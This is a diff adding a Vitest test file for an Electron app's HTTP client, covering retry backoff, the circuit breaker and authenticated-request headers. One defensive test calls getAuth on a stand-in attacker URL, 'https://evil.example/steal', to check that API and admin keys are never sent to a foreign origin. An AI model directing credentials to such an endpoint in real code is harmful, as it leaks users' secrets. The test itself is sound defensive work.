@@ -0,0 +1,211 @@
+import { describe, it, expect, vi, beforeEach } from 'vitest'
+
+const { fetchMock } = vi.hoisted(() => ({ fetchMock: vi.fn() }))
+
+vi.mock('electron', () => {
+  const electronMock = {
+    app: {
+      getPath: vi.fn().mockReturnValue('/mock/app/data'),
+      getVersion: vi.fn().mockReturnValue('1.2.3')
+    },
+    session: {
+      fromPartition: vi.fn(() => ({
+        fetch: fetchMock,
+        setProxy: vi.fn().mockResolvedValue(undefined),
+        closeAllConnections: vi.fn().mockResolvedValue(undefined),
+        setCertificateVerifyProc: vi.fn(),
+        setUserAgent: vi.fn()
+      }))
+    }
+  }
+  return {
+    ...electronMock,
+    default: electronMock
+  }
+})
+
+vi.mock('electron-log/main', () => ({
+  default: { info: vi.fn(), warn: vi.fn(), error: vi.fn() }
+}))
+
+import { DEFAULT_NETWORK_CONFIG } from '../config'
+import type { ServerConfig } from '../config'
+import { HttpClient, computeBackoffDelay } from '../httpClient'
+
+const policy = { attempts: 3, base_delay_ms: 100, max_delay_ms: 250, jitter: false }
+
+describe('computeBackoffDelay', () => {
+  it('grows exponentially up to the max delay', () => {
+    expect(computeBackoffDelay(policy, 1)).toBe(100)
+    expect(computeBackoffDelay(policy, 2)).toBe(200)
+    expect(computeBackoffDelay(policy, 3)).toBe(250)
+  })
+
+  it('applies full jitter', () => {
+    expect(computeBackoffDelay({ ...policy, jitter: true }, 2, () => 0.5)).toBe(100)
+  })
+})
+
+describe('HttpClient retry', () => {
+  let client: HttpClient
+
+  beforeEach(() => {
+    fetchMock.mockReset()
+    client = new HttpClient()
+    client.configure({
+      ...DEFAULT_NETWORK_CONFIG,
+      retry: { attempts: 3, base_delay_ms: 1, max_delay_ms: 1, jitter: false }
+    })
+  })
+
+  it('retries idempotent requests on transient failures', async () => {
+    fetchMock
+      .mockRejectedValueOnce(new Error('net::ERR_CONNECTION_RESET'))
+      .mockResolvedValueOnce(new Response('', { status: 503 }))
+      .mockResolvedValueOnce(new Response('ok', { status: 200 }))
+    const resp = await client.get('http://127.0.0.1:4127/health')
+    expect(resp.status).toBe(200)
+    expect(fetchMock).toHaveBeenCalledTimes(3)
+  })
+
+  it('does not retry POST by default', async () => {
+    fetchMock.mockResolvedValue(new Response('', { status: 503 }))
+    const resp = await client.post('http://127.0.0.1:4127/auth/register', {})
+    expect(resp.status).toBe(503)
+    expect(fetchMock).toHaveBeenCalledTimes(1)
+  })
+
+  it('gives up after the configured attempts', async () => {
+    fetchMock.mockRejectedValue(new Error('net::ERR_CONNECTION_REFUSED'))
+    await expect(client.get('http://127.0.0.1:4127/health')).rejects.toThrow('ERR_CONNECTION')
+    expect(fetchMock).toHaveBeenCalledTimes(3)
+  })
+
+  it('fails fast once the circuit for a server opens', async () => {
+    client.configure({
+      ...DEFAULT_NETWORK_CONFIG,
+      retry: { attempts: 1, base_delay_ms: 1, max_delay_ms: 1, jitter: false },
+      circuit_breaker: { failure_threshold: 2, cooldown_ms: 60_000 }
+    })
+    fetchMock.mockResolvedValue(new Response('', { status: 502 }))
+    await client.get('http://127.0.0.1:4127/health')
+    await client.get('http://127.0.0.1:4127/health')
+    await expect(client.get('http://127.0.0.1:4127/health')).rejects.toMatchObject({
+      kind: 'network'
+    })
+    expect(fetchMock).toHaveBeenCalledTimes(2)
+    expect(client.getCircuitStates()).toMatchObject([
+      { origin: 'http://127.0.0.1:4127', state: 'open' }
+    ])
+
+    fetchMock.mockResolvedValueOnce(new Response('ok', { status: 200 }))
+    await expect(client.get('http://10.0.0.2:4127/health')).resolves.toMatchObject({ status: 200 })
+  })
+})
+
+describe('HttpClient authenticated requests', () => {
+  let client: HttpClient
+
+  beforeEach(() => {
+    fetchMock.mockReset()
+    client = new HttpClient()
+    client.setServer({ host: '127.0.0.1', port: 4127 } as ServerConfig)
+  })
+
+  it('refuses to send credentials to other origins', async () => {
+    client.setApiKey('secret')
+    client.setAdminKey('admin-key')
+    await expect(client.getAuth('https://evil.example/steal')).rejects.toMatchObject({
+      kind: 'invalid_input'
+    })
+    await expect(
+      client.requestAuth('GET', 'http://127.0.0.1:4128/auth/clients', { credential: 'admin' })
+    ).rejects.toMatchObject({ kind: 'invalid_input' })
+    expect(fetchMock).not.toHaveBeenCalled()
+  })
+
+  it('attaches the stored API key', async () => {
+    client.setApiKey('secret')
+    fetchMock.mockResolvedValueOnce(new Response('{}', { status: 200 }))
+    await client.getAuth('http://127.0.0.1:4127/auth/clients')
+    const init = fetchMock.mock.calls[0][1] as { headers: Record<string, string> }
+    expect(init.headers.Authorization).toBe('Bearer secret')
+  })
+
+  it('sends identity and configured extra headers', async () => {
+    client.configure({ ...DEFAULT_NETWORK_CONFIG, extra_headers: { 'X-Team': 'ops' } })
+    client.setClientId('client-1')
+    fetchMock.mockResolvedValueOnce(new Response('{}', { status: 200 }))
+    await client.get('http://127.0.0.1:4127/health')
+    const init = fetchMock.mock.calls[0][1] as { headers: Record<string, string> }
+    expect(init.headers['User-Agent']).toMatch(/^PrizmElectronClient\/1\.2\.3 \(/)
+    expect(init.headers['X-Prizm-Client-Id']).toBe('client-1')
+    expect(init.headers['X-Team']).toBe('ops')
+  })
+
+  it('surfaces 401 as an auth error', async () => {
+    client.setApiKey('revoked')
+    fetchMock.mockResolvedValueOnce(new Response('{"error":"Invalid API key"}', { status: 401 }))
+    await expect(client.getAuth('http://127.0.0.1:4127/auth/clients')).rejects.toMatchObject({
+      kind: 'auth',
+      status: 401
+    })
+  })
+
+  it('re-registers once on 401 and retries with the new key', async () => {
+    client.setApiKey('revoked')
+    const reauth = vi.fn().mockResolvedValue('fresh')
+    client.setReauthHandler(reauth)
+    fetchMock
+      .mockResolvedValueOnce(new Response('', { status: 401 }))
+      .mockResolvedValueOnce(new Response('{}', { status: 200 }))
+    const resp = await client.getAuth('http://127.0.0.1:4127/auth/clients')
+    expect(resp.status).toBe(200)
+    expect(reauth).toHaveBeenCalledTimes(1)
+    const retried = fetchMock.mock.calls[1][1] as { headers: Record<string, string> }
+    expect(retried.headers.Authorization).toBe('Bearer fresh')
+  })
+
+  it('reports 401 when re-registration is disabled', async () => {
+    client.setApiKey('revoked')
+    client.setReauthHandler(async () => null)
+    fetchMock.mockResolvedValueOnce(new Response('', { status: 401 }))
+    await expect(client.getAuth('http://127.0.0.1:4127/auth/clients')).rejects.toMatchObject({
+      kind: 'auth'
+    })
+    expect(fetchMock).toHaveBeenCalledTimes(1)
+  })
+
+  it('uses the admin key for admin requests without re-registering', async () => {
+    client.setApiKey('client-key')
+    client.setAdminKey('admin-key')
+    const reauth = vi.fn().mockResolvedValue('fresh')
+    client.setReauthHandler(reauth)
+    fetchMock.mockResolvedValueOnce(new Response('', { status: 401 }))
+    await expect(
+      client.requestAuth('DELETE', 'http://127.0.0.1:4127/auth/clients/c-2', {
+        credential: 'admin'
+      })
+    ).rejects.toMatchObject({ kind: 'auth' })
+    const init = fetchMock.mock.calls[0][1] as { headers: Record<string, string> }
+    expect(init.headers.Authorization).toBe('Bearer admin-key')
+    expect(reauth).not.toHaveBeenCalled()
+  })
+
+  it('falls back to the client key when no admin key is set', async () => {
+    client.setApiKey('client-key')
+    fetchMock.mockResolvedValueOnce(new Response('', { status: 204 }))
+    await client.requestAuth('DELETE', 'http://127.0.0.1:4127/auth/clients/c-2', {
+      credential: 'admin'
+    })
+    const init = fetchMock.mock.calls[0][1] as { headers: Record<string, string> }
+    expect(init.headers.Authorization).toBe('Bearer client-key')
+  })
+
+  it('refuses to send requests before registration', async () => {
+    await expect(client.postAuth('http://127.0.0.1:4127/clipboard', {})).rejects.toMatchObject({
+      kind: 'auth'
+    })
+    expect(fetchMock).not.toHaveBeenCalled()
+  })
+})